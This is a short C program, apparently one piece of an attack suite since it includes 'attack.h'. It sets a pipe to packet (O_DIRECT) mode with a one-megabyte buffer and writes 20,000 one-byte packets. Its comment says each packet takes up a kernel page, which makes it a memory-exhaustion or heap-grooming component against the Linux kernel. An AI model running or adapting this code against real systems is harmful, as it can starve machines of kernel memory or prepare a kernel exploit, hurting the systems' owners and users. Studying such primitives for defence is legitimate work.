/* Turns its output into packets of one byte, each of which takes a page of the kernel. */
#include "attack.h"
int main(void)
{
	fcntl(1, F_SETPIPE_SZ, 1 << 20);
	fcntl(1, F_SETFL, O_WRONLY | O_DIRECT);
	for (int i = 0; i < 20000; i++) if (write(1, "p", 1) != 1) return 1;
	return 0;
}
